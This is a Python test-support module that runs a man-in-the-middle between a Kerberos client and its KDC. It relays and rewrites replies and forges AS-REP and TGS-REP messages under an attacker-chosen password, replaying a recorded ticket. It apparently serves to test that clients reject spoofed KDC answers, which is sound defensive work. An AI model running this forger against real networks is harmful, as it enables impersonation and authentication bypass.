"""Somebody on the path between a client and its KDC: reads each message, and passes on, changes or makes up what comes back.

    with KdcInTheMiddle("127.0.8.1", 8088) as middle:      # listens on the KDC's address, at middle.port
        middle.on_request = lambda request: None           # bytes: the answer, in place of the KDC's
        middle.on_reply = lambda request, reply: reply     # the answer that the client gets

By hand, against any build: point a client's file at the port, and sign in with the password that the attacker chose.

    PYTHONPATH=. python3 -m tests.support.kdc_in_the_middle 127.0.8.2:8088 ROOT.FABRIKAM.COM alice HTTP/frontend.root.fabrikam.com
"""

import contextlib
import datetime
import os
import socket
import struct
import sys
import threading

from impacket.krb5 import asn1
from impacket.krb5.constants import encodeFlags
from impacket.krb5.crypto import Key, _enctype_table
from impacket.krb5.types import KerberosTime
from pyasn1.codec.der import decoder, encoder
from pyasn1.type.univ import noValue

from samples.support import foreign
from tests.support.raw_kdc_client import AES256, PRINCIPAL, SRV_INST, RawKdc, _set_name, _ticket, password_key

AS_REQ, TGS_REQ, TGS_REP = 0x6A, 0x6C, 0x6D


class KdcInTheMiddle:
    """A context manager that serves UDP and TCP on a port of its own."""

    def __init__(self, address, port):
        self.address, self.kdc = address, RawKdc(address, port)
        self.port = foreign.free_port(address)
        self.on_request = lambda request: None
        self.on_reply = lambda request, reply: reply
        self.failures = []

    def __enter__(self):
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind((self.address, self.port))
        self._tcp = socket.create_server((self.address, self.port))
        for serve in (self._serve_udp, self._serve_tcp):
            threading.Thread(target=serve, daemon=True).start()
        return self

    def __exit__(self, kind, *_):
        for listener in (self._udp, self._tcp):
            with contextlib.suppress(OSError):
                listener.shutdown(socket.SHUT_RDWR)
            listener.close()
        if self.failures and kind is None:
            raise self.failures[0]

    def answer(self, request):
        try:
            made_up = self.on_request(request)
            return made_up if made_up is not None else self.on_reply(request, self.kdc.exchange(request))
        except OSError:  # the KDC does not answer, nor do we
            return b""
        except Exception as failure:  # told at the end: a thread has nobody else to tell
            self.failures.append(failure)
            return b""

    def _serve_udp(self):
        with contextlib.suppress(OSError):
            while True:
                request, client = self._udp.recvfrom(65536)
                if request and (reply := self.answer(request)):
                    self._udp.sendto(reply, client)

    def _serve_tcp(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                threading.Thread(target=self._serve_connection, args=(connection,), daemon=True).start()

    def _serve_connection(self, connection):
        with connection, contextlib.suppress(OSError, EOFError):
            stream = connection.makefile("rb")
            while head := stream.read(4):
                reply = self.answer(stream.read(struct.unpack("!I", head)[0]))
                if not reply:
                    return
                connection.sendall(struct.pack("!I", len(reply)) + reply)


class Forger:
    """Answers as the realm's KDC for one user: an AS-REP under a password of its own, and in the TGS-REP a ticket recorded before."""

    def __init__(self, realm, user, service, password, recorded):
        self.realm, self.user, self.service, self.recorded = realm, user, service, recorded
        self.salt = "salt of the attacker"
        self.client_key = password_key(AES256, password, self.salt)
        self.session_key = Key(AES256, os.urandom(32))
        self.forged = 0

    def __call__(self, request):
        if request[:1] == bytes([AS_REQ]):
            message = decoder.decode(request, asn1Spec=asn1.AS_REQ())[0]
            names = [str(n) for n in message["req-body"]["cname"]["name-string"]]
            return self._as_rep(message["req-body"]) if names[0].partition("@")[0].lower() == self.user.lower() else None
        if request[:1] != bytes([TGS_REQ]):
            return None
        message = decoder.decode(request, asn1Spec=asn1.TGS_REQ())[0]
        subkey = self._subkey(message["padata"])
        return self._tgs_rep(message["req-body"], subkey) if subkey else None

    def _as_rep(self, body):
        entry = asn1.ETYPE_INFO2_ENTRY()
        entry["etype"], entry["salt"] = AES256, self.salt
        info = asn1.ETYPE_INFO2()
        info[0] = entry
        reply = asn1.AS_REP()
        reply["padata"] = noValue
        reply["padata"][0] = noValue
        reply["padata"][0]["padata-type"], reply["padata"][0]["padata-value"] = 19, encoder.encode(info)
        return self._reply(reply, 11, asn1.EncASRepPart(), body, (f"krbtgt/{self.realm}", None), self.client_key, 3)

    def _tgs_rep(self, body, subkey):
        self.forged += 1
        return self._reply(asn1.TGS_REP(), 13, asn1.EncTGSRepPart(), body, (self.service, self.recorded), subkey, 9)

    def _subkey(self, padata):
        """Of the authenticator; None where it is not under the session key of our AS-REP."""
        ap_req = next(decoder.decode(p["padata-value"].asOctets(), asn1Spec=asn1.AP_REQ())[0] for p in padata if int(p["padata-type"]) == 1)
        try:
            plain = _enctype_table[AES256].decrypt(self.session_key, 7, ap_req["authenticator"]["cipher"].asOctets())
        except Exception:  # InvalidChecksum, and whatever a cipher of another type gives
            return None
        authenticator = decoder.decode(plain, asn1Spec=asn1.Authenticator())[0]
        return Key(int(authenticator["subkey"]["keytype"]), authenticator["subkey"]["keyvalue"].asOctets())

    def _reply(self, reply, message_type, part, body, given, key, usage):
        service, ticket = given
        reply["pvno"], reply["msg-type"], reply["crealm"] = 5, message_type, self.realm
        _set_name(asn1.seq_set(reply, "cname"), self.user, PRINCIPAL)
        if ticket is None:
            made_up = asn1.seq_set(reply, "ticket")
            made_up["tkt-vno"], made_up["realm"] = 5, self.realm
            _set_name(asn1.seq_set(made_up, "sname"), service, SRV_INST)
            sealed = asn1.seq_set(made_up, "enc-part")
            sealed["etype"], sealed["cipher"] = AES256, os.urandom(200)
        else:
            asn1.seq_set(reply, "ticket", ticket.to_asn1)
        now = datetime.datetime.utcnow()
        later = KerberosTime.to_asn1(now + datetime.timedelta(hours=8))
        session = asn1.seq_set(part, "key")
        session["keytype"], session["keyvalue"] = AES256, self.session_key.contents
        part["last-req"] = noValue
        part["last-req"][0] = noValue
        part["last-req"][0]["lr-type"], part["last-req"][0]["lr-value"] = 0, KerberosTime.to_asn1(now)
        part["nonce"], part["flags"] = int(body["nonce"]), encodeFlags([1, 9, 10])
        part["authtime"], part["endtime"], part["srealm"] = KerberosTime.to_asn1(now), later, self.realm
        _set_name(asn1.seq_set(part, "sname"), service, SRV_INST)
        sealed = asn1.seq_set(reply, "enc-part")
        sealed["etype"], sealed["cipher"] = key.enctype, _enctype_table[key.enctype].encrypt(key, usage, encoder.encode(part), None)
        return encoder.encode(reply)


def edited(reply, change):
    """A TGS-REP after `change(message)`; every other message as it is."""
    if reply[:1] != bytes([TGS_REP]):
        return reply
    message = decoder.decode(reply, asn1Spec=asn1.TGS_REP())[0]
    change(message)
    return encoder.encode(message)


def service_of(reply):
    """"HTTP/host" of the ticket in a TGS-REP; empty for other messages."""
    if reply[:1] != bytes([TGS_REP]):
        return ""
    return "/".join(str(n) for n in decoder.decode(reply, asn1Spec=asn1.TGS_REP())[0]["ticket"]["sname"]["name-string"])


def main(where, realm, user, service):
    """Records the first ticket of `user` to `service` that passes, then forges: any sign-in of the user must fail."""
    address, _, port = where.rpartition(":")
    password = "chosen by the attacker"
    with KdcInTheMiddle(address, int(port)) as middle:
        recorded = []

        def record(_, reply):
            if service_of(reply) == service and not recorded:
                message = decoder.decode(reply, asn1Spec=asn1.TGS_REP())[0]
                if [str(n) for n in message["cname"]["name-string"]] == [user]:
                    recorded.append(_ticket(message["ticket"]))
                    middle.on_request = Forger(realm, user, service, password, recorded[0])
                    print(f"recorded {user}'s ticket to {service}: now their password is said to be '{password}'", flush=True)
            return reply

        middle.on_reply = record
        print(f"listening at {address}:{middle.port} for {where}", flush=True)
        threading.Event().wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
